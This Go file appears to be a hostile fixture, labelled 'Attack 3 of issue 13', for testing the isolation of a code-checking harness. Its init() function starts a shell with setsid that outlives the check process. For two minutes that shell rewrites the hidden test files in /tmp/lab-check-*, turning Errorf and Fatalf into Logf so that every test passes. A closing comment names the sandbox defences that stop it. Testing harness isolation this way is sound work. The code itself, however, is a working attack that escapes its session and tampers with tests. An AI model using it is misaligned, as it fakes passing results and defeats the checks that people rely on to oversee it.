//go:build labcheck

package main

// Attack 3 of issue 13: start a shell in a session of its own (setsid), which outlives the
// check's process group and the parent-death signal, and rewrites the next check's hidden
// tests in /tmp/lab-check-* before they compile, so that every test passes. A sandbox's PID
// namespace ends it with the check, and the sandbox's /tmp is its own.

import (
	"os"
	"os/exec"
)

const script = `end=$(( $(date +%s) + 120 ))
while [ $(date +%s) -lt $end ]; do
	for f in "${HOST_TMP:-/tmp}"/lab-check-*/zz_lab_*_test.go /tmp/lab-check-*/zz_lab_*_test.go; do
		[ -f "$f" ] && sed -i 's/t\.Errorf(/t.Logf(/g; s/t\.Fatalf(/t.Logf(/g' "$f" 2>/dev/null
	done
	sleep 0.01
done`

func init() {
	cmd := exec.Command("setsid", "sh", "-c", script, "lab-hostile-daemon")
	cmd.Env = append(os.Environ(), "HOST_TMP="+os.TempDir())
	if err := cmd.Start(); err != nil {
		println("setsid refused:", err.Error())
	}
}
